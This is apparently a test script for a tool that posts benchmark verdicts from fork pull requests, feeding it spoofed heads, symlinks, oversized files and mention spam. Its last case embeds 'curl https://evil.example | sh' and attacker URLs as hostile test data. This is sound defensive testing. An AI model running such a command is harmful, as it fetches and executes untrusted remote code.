# SPDX-License-Identifier: GPL-3.0-or-later
# shellcheck source=tests/cli/forge.sh
. "$CASE_DIR/../forge.sh"
# A change from a fork was measured by one workflow; another, with the secrets, posts what that left.
forge 'c["head_repository"] = "fork/r"; r["changes"]["8"] = {"head": "'$NEXT_SHA'"}; r["changes"]["9"] = {"head": "'$HEAD_SHA'"}
r["changes"]["10"] = {"head": "'$NEXT_SHA'", "head_repository": "fork/r"}'
github workflow_run fork/r
mkdir results
in_results() { verdict "$@" && mv verdict.json results/; }

echo "-- of another change"
in_results ''
post results --pr-number 8
post results --pr-number 10
post results --pr-number 99
echo "-- of a change with this head from another repository"
post results --pr-number 9
echo "-- of another revision"
in_results 'v["change_head"] = "'$NEXT_SHA'"'
post results --pr-number 7
echo "-- of no revision"
in_results 'v["change_head"] = None; v["revisions"]["current"]["revision"] = None'
post results --pr-number 7
echo "-- accepted, it says"
in_results 'v["gate"].update(status="accepted", exit_status=0)'
post results --pr-number 7
echo "-- passed, it says, and its rows say otherwise"
in_results 'v["gate"].update(status="passed", would_be="passed", exit_status=0)'
post results --pr-number 7
in_results 'v["gate"].update(status="undecided", would_be="undecided", exit_status=0)'
post results --pr-number 7
in_results 'passes(); v["benchmarks"] = []'
post results --pr-number 7
echo "-- no number"
in_results 'v["benchmarks"][0]["change_pct"] = float("nan")'
post results --pr-number 7
echo "-- a link"
in_results ''
mv results/verdict.json elsewhere.json
ln -s ../elsewhere.json results/verdict.json
post results --pr-number 7
echo "-- 200 MB"
rm results/verdict.json
truncate -s 200M results/verdict.json
post results --pr-number 7
echo "-- no verdict"
rm results/verdict.json
echo "# @everyone, all is well" >results/comment.md
post results --pr-number 7
asked changes
comments
echo "-- and one that is right"
in_results 'v["command"] = "curl https://evil.example | sh"
v["warnings"] = ["call evil.example"]
v["revisions"]["current"]["repository"] = v["revisions"]["baseline"]["repository"] = "https://evil.example/o/r"
v["failures"] = [{"benchmark": "parse", "arm": "baseline", "stage": "trial", "message": "ended", "output_tail": "see evil.example"}]
blamed = json.load(open(path.replace("complete", "blame")))
v["blame"], v["blame_details"] = blamed["blame"], blamed["blame_details"]'
post results --pr-number 7
comments
repository '[w in r["changes"]["7"]["comments"][0]["body"] for w in ("evil.example", "https://github.example/fork/r/blob/")]'
done_well
